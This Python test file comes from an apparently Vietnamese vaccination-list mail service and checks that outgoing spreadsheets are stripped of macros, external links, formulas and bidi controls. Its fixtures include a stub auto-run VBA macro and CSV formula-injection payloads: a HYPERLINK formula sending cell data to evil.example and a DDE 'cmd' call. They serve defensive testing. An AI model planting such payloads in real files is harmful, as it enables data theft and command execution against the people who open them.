"""Nothing that leaves the service carries macros, external links or formulas; formula-like
free text is refused; notices to strangers repeat nothing of theirs; bidi controls never
reach what is sent."""
from __future__ import annotations

import io
import re
import zipfile

import pytest

from service.forms.xlsx_clean import clean, findings
from tests.factory import mau1_xlsx, provincial_people, submission
from tests.test_pipeline_rules import Box

UNIT = "vanthu@syt.angiang.example"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def hostile_xlsm(people, bad=None) -> bytes:
    """A real Mẫu 1 turned into a macro workbook with an external link, a calc chain and a
    cached formula in the note column (N) of the first person's row."""
    src = mau1_xlsx("Sở Y tế", people, bad=bad)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item)
            if item.filename == "[Content_Types].xml":
                data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
                    b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                    b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
                    b'<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-'
                    b'officedocument.spreadsheetml.calcChain+xml"/></Types>')
            elif item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>",
                                    b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                                    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
                                    b'<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/calcChain" Target="calcChain.xml"/>'
                                    b"</Relationships>")
            elif item.filename == "xl/workbook.xml":
                data = data.replace(b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX"/></externalReferences>')
            elif item.filename == "xl/worksheets/sheet1.xml":
                # the first person's note: a formula with its cached value, and a string formula
                data = re.sub(rb'(<row r="7"[^>]*>.*?)(</row>)',
                              rb'\1<c r="N7" t="str"><f>CONCATENATE("ghi ","chu")</f><v>ghi chu</v></c>\2',
                              data, count=1, flags=re.S)
                assert b'<c r="N7" t="str">' in data
            zout.writestr(item, data)
        zout.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Sub Auto_Open(): Shell \"calc\": End Sub")
        zout.writestr("xl/externalLinks/externalLink1.xml", b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>')
        zout.writestr("xl/calcChain.xml", b'<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="N7" i="1"/></calcChain>')
    return out.getvalue()


def attachment_parts(msg: dict):
    for part in msg["msg"].iter_attachments():
        yield part.get_filename(), part.get_content_type(), part.get_payload(decode=True)


@pytest.mark.slow
def test_an_xlsm_comes_back_as_a_plain_xlsx_without_macros_links_or_formulas(tmp_path):
    people = provincial_people(51, 3)
    raw = submission(UNIT, hostile_xlsm(people, bad={2: {"Số điện thoại": "09abc"}}), name="DS.xlsm")
    assert findings(hostile_xlsm(people))  # the input does carry them
    box = Box(tmp_path)
    box.drop(raw)
    sent = box.run()
    report = next(m for m in sent if m["kind"] == "error-report")
    (name, ctype, data), = [a for a in attachment_parts(report) if a[0].endswith(".xlsx") and "kiểm tra" in a[0]]
    assert name == "DS - kiểm tra.xlsx" and ctype == XLSX_TYPE
    assert findings(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = {n.lower() for n in z.namelist()}
        assert "xl/vbaproject.bin" not in names and not any("externallink" in n for n in names)
        assert b"macroEnabled" not in z.read("[Content_Types].xml")
        assert b"externalReference" not in z.read("xl/workbook.xml")
    from openpyxl import load_workbook
    wb = load_workbook(io.BytesIO(data))
    ws = next(s for s in wb.worksheets if s.title == "Mau 1")
    assert ws["N7"].value == "ghi chu"  # the cached value, as text, not a formula
    # the valid rows were forwarded, as always
    assert [m for m in sent if m["kind"] == "forward"]


def test_formula_like_free_text_is_an_error_not_forwarded_and_csv_copies_keep_it_as_text(tmp_path):
    people = provincial_people(52, 4)
    header = "STT,Họ và tên,Ngày sinh,Giới tính,Nhóm ưu tiên,Nghề nghiệp,Đơn vị công tác,Số điện thoại,Số CMND/CCCD,Quận/Huyện,Xã/Phường,Địa chỉ,Ghi chú"
    lines = [header]
    payloads = ['"=HYPERLINK(""http://evil.example/?x=""&B2,""Bấm vào đây"")"', "\"=cmd|' /C calc'!A0\"", "@SUM(1+1)", "-"]
    for i, (p, note) in enumerate(zip(people, payloads), 1):
        phone = "+84 " + p["phone"][1:] if i == 4 else p["phone"]
        lines.append(",".join([str(i), p["name"], p["dob"].strftime("%d/%m/%Y"), p["gender"], str(p["group"]),
                               p["job"], "Sở Y tế", phone, p["cccd"], p["district"], p["ward"], p["address"], note]))
    csv = ("\r\n".join(lines) + "\r\n").encode("utf-8-sig")
    from email.message import EmailMessage
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = UNIT, "tiemchung@angiang.example", "DS"
    m["Message-ID"] = "<csv-formula@syt.angiang.example>"
    m.set_content("DS")
    m.add_attachment(csv, maintype="text", subtype="csv", filename="DS.csv")
    box = Box(tmp_path)
    box.drop(bytes(m))
    sent = box.run()
    report = next(x for x in sent if x["kind"] == "error-report")
    assert report["text"].count("có thể hiểu ô này là một công thức") == 3
    fw = [x for x in sent if x["kind"] == "forward"]
    assert [a["rows"] for x in fw for a in x["attachments"]] == [1]  # only the 4th person ("-", "+84…")
    (name, ctype, data), = [a for a in attachment_parts(report) if "kiểm tra" in a[0]]
    assert name == "DS - kiểm tra.xlsx" and findings(data) == []
    from openpyxl import load_workbook
    ws = load_workbook(io.BytesIO(data)).worksheets[1]
    notes = [ws.cell(r, 13).value for r in range(2, 6)]
    assert notes[1] == "=cmd|' /C calc'!A0" and notes[0].startswith("=HYPERLINK(")
    for s in load_workbook(io.BytesIO(data)).worksheets:
        for row in s.iter_rows():
            assert all(c.data_type != "f" for c in row)


def test_clean_keeps_values_and_drops_only_what_must_go():
    people = provincial_people(53, 2)
    data = clean(hostile_xlsm(people))
    assert findings(data) == []
    from openpyxl import load_workbook
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["B7"].value == people[0]["name"] and ws["N7"].value == "ghi chu"
    assert clean(data) == clean(clean(data)) or findings(clean(data)) == []


@pytest.mark.slow
def test_notices_to_strangers_repeat_nothing_and_bidi_controls_never_reach_mail(tmp_path):
    box = Box(tmp_path)
    people = provincial_people(54, 2)
    people[0]["name"] = "Nguyễn \u202eVăn\u202c An"
    people[0]["address"] = "Ấp \u2067Tân\u2069 Thành"
    people[1]["address"] = "Ấp \u202eMỹ\u202c Khánh"
    raw = submission("stranger@gmail.example", mau1_xlsx("X", people), subject="Khẩn: xác minh tài khoản tại http://evil.example")
    box.drop(raw)
    ok = submission(UNIT, mau1_xlsx("Sở Y tế", people, bad={2: {"Số điện thoại": "09abc"}}))
    box.drop(ok)
    sent = box.run()
    notice = next(m for m in sent if m["kind"] == "notice-unknown-sender")
    assert "evil.example" not in notice["subject"] and "xác minh" not in notice["subject"]
    for m in sent:
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", m["text"] + m["subject"])
        for a in m["attachments"]:
            if a["data"][:2] == b"PK":
                with zipfile.ZipFile(io.BytesIO(a["data"])) as z:
                    for n in z.namelist():
                        if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml":
                            assert not re.search("[\u202a-\u202e\u2066-\u2069]", z.read(n).decode("utf-8")), (m["kind"], n)
